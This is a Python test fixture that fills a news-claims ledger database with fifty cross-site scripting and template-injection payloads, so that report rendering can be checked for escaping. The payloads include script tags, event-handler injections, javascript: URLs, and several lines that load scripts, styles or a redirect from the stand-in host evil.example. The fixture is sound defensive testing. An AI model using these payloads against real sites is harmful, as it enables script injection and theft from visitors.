"""Fifty ways to break out of a page, and a ledger that has them everywhere a report's words can get to."""

from dataclasses import replace
from pathlib import Path

from crackdown.model.claim import Claim, Ground
from crackdown.model.event import Event, Join
from crackdown.model.finding import Finding
from crackdown.model.ids import content_id
from crackdown.model.interval import Interval
from crackdown.model.lineage import Edge, Lineage
from crackdown.model.number import Number
from crackdown.model.problem import Problem
from crackdown.model.record import Record
from crackdown.model.register import Party, Register, Site, SiteStep
from crackdown.model.report import Document
from crackdown.model.series import Rise, Series, Step
from crackdown.model.settled import Settled
from crackdown.model.span import Span
from crackdown.model.tally import Camp, Tally
from crackdown.model.trust import Grade, GradedClaim, GradedSource, Trust
from crackdown.store import open_ledger
from publish.made import claim, document

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/p.gif>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>go</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>go</a>",
    "<form action=https://evil.example><button>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<div style=background:url(https://evil.example/)>",
    "\" onmouseover=alert(1) x=\"",
    "' onmouseover=alert(1) x='",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "` onmouseover=alert(1) `",
    "-->\n<script>alert(1)</script>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</mark></p></div></main><script>alert(1)</script>",
    "{{ 7 * 7 }}{{ config }}",
    "{% for x in (1,) %}{{ x }}{% endfor %}",
    "${alert(1)}#{alert(1)}<%= 7 %>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://fine.example/",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
    "\u202e<script>alert(1)</script>\u2066\ufeff",
    "%3Cscript%3Ealert(1)%3C/script%3E<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
)  # fmt: skip


def build(folder: Path) -> Path:
    """A ledger whose every text is one of `PAYLOADS`."""
    ledger = folder / "hostile.db"
    documents = [_document(payload) for payload in PAYLOADS]
    claims = [_claim(made, payload) for made, payload in zip(documents, PAYLOADS, strict=True)]
    with open_ledger(ledger) as book:
        for made, held, payload in zip(documents, claims, PAYLOADS, strict=True):
            doubt = Problem("read", payload, payload, payload, document=made.id, span=Span(0, len(payload)))
            book.keep(made, Record(made.id, payload, "1", (held,), (doubt,)))
        book.note([Problem("acquire", "no_text", payload, payload, failed=True) for payload in PAYLOADS])
        book.replace(_settled(documents, claims))
    return ledger


def _document(payload: str) -> Document:
    text = f"{payload} arrested 300 {payload} people.\n{payload}\n"
    known = {"title": payload, "outlet": payload, "url": payload, "language": payload}
    return replace(document(f"{payload}.txt", text, **known), byline=payload)


def _claim(made: Document, payload: str) -> Claim:
    at = made.text.index("300")
    grounds = (Ground("number", "exact", Span(at, at + 3)), Ground("source", "context", Span(0, len(payload))))
    slots = {"role": payload, "place": (payload,), "source": payload, "actor": payload, "target": payload}
    slots |= {"status": "alleged", "nationality": ("CN",), "grounds": grounds, "reader": payload}
    return claim(made, f"arrested 300 {payload} people", Number(300), **slots)


def _settled(documents: list[Document], claims: list[Claim]) -> Settled:
    ids = tuple(sorted(held.id for held in claims))
    names = tuple(sorted(made.id for made in documents))
    events, tallies, findings = [], [], []
    for payload, held, other in zip(PAYLOADS, claims, reversed(claims), strict=True):
        join = Join(held.id, other.id, 1.0, payload)
        told = (tuple(sorted({held.id, other.id})), tuple(sorted({held.document, other.document})))
        event = Event(content_id("e", payload), payload, payload, (), (payload,), held.date, payload, *told, (join,))
        camp = Camp(Interval(300, 300), (held.id,), (payload,))
        slot = (event.id, "arrested", "people", payload, payload, payload)
        tallies.append(Tally(content_id("t", payload), *slot, Interval(300, 300), 300, payload, (camp,), "plain"))
        tallies.append(
            Tally(
                content_id("u", payload),
                *slot[:3],
                "",
                None,
                "incident",
                Interval(1, 9),
                None,
                payload,
                (camp,),
                "plain",
            )
        )
        findings.append(
            Finding(content_id("f", payload), "conflict", payload, 1, (held.id,), (held.document,), event.id, payload)
        )
        events.append(event)
    sites = tuple(
        Site(
            f"s-{n}",
            word,
            word,
            word,
            None,
            None,
            (word,),
            word,
            ids[:2],
            steps=(SiteStep(word, None, True, True, ids[:1]),),
        )
        for n, word in enumerate(PAYLOADS)
    )
    parties = tuple(Party(f"p-{n}", word, word, word, (word,), ids[:2]) for n, word in enumerate(PAYLOADS))
    register = Register((), sites, parties, tuple((held.id, ("s-0",)) for held in claims))
    edges = tuple(Edge(names[0], name, "near", 1.0, PAYLOADS[0]) for name in names[1:])
    settled = Settled("plain", Lineage(edges), register, tuple(events), tuple(tallies), tuple(findings))
    return replace(settled, series=_series(claims), trust=_trust(claims))


def _series(claims: list[Claim]) -> tuple[Series, ...]:
    def step(held: Claim, payload: str) -> Step:
        rise = Rise(held.id, 1, 299)
        return Step(None, Interval(300, 300, words=payload), (payload,), (held.id,), 1, (rise,), (held.id,))

    return tuple(
        Series(
            content_id("q", payload), payload, payload, payload, payload, payload, None, (step(held, payload),), "plain"
        )
        for held, payload in zip(claims, PAYLOADS, strict=True)
    )


def _trust(claims: list[Claim]) -> Trust:
    pairs = list(zip(claims, PAYLOADS, strict=True))
    grades = [Grade(payload, payload, payload) for payload in PAYLOADS]
    sources = (
        GradedSource(f"r-{n}", payload, payload, payload, grade, 1, 0, 0)
        for n, (payload, grade) in enumerate(zip(PAYLOADS, grades, strict=True))
    )
    graded = (GradedClaim(held.id, f"r-{n}", grades[n]) for n, (held, _) in enumerate(pairs))
    return Trust(tuple(sources), tuple(graded))
